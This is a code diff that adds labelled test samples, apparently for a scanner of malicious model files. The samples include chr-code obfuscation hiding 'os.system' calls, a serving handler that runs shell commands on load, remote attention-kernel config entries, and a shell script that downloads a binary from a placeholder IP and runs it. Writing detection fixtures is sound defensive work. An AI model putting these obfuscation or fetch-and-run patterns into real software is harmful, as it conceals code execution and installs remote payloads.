@@ -122,3 +122,39 @@ forge("notebook.picture_evaluates", filename="demo.ipynb", family="notebooks", m
         }
     )
 )
+
+for _name, _settings, _bad in (
+    ("kernel_of_another", {"model_type": "llama", "_attn_implementation_internal": "someone/kernel"}, True),
+    ("kernel_of_another_saved", {"model_type": "llama", "attn_implementation": "someone/kernel"}, True),
+    ("attention_plain", {"model_type": "llama", "_attn_implementation": "sdpa", "attn_implementation": "flash_attention_2"}, False),
+):
+    file(f"json.{_name}", "config.json", json.dumps(_settings), "JSON with code tags", malicious=_bad)
+for _name, _file, _text, _bad in (
+    (
+        "name_of_numbers",
+        "tools.py",
+        "m = __import__(''.join(map(chr, [111, 115])))\ngetattr(m, ''.join(map(chr, [115, 121, 115, 116, 101, 109])))('echo stannary')\n",
+        True,
+    ),
+    (
+        "name_of_numbers_kept",
+        "tools.py",
+        "(lambda g: [g.__setitem__('o', __import__(''.join(map(chr, [111, 115])))), getattr(g['o'], 'sys' + 'tem')('echo')])(globals())\n",
+        True,
+    ),
+    (
+        "letters_of_numbers",
+        "tools.py",
+        "letters = ''.join(map(chr, [97, 98, 99, 100]))\nprint(getattr(letters, 'upper')())\n",
+        False,
+    ),
+    (
+        "served_class",
+        "handler.py",
+        "import os\n\nclass Any:\n    def initialize(self, context):\n        os.system('echo stannary')\n",
+        True,
+    ),
+    ("served_class_plain", "handler.py", "class Any:\n    def initialize(self, context):\n        self.model = None\n", False),
+    ("fetched_and_started", "run.sh", "#!/bin/sh\nwget -q http://203.0.113.9/m -O /tmp/m\nchmod +x /tmp/m\n/tmp/m &\n", True),
+):
+    file(f"text.{_name}", _file, _text, "scripts", malicious=_bad)
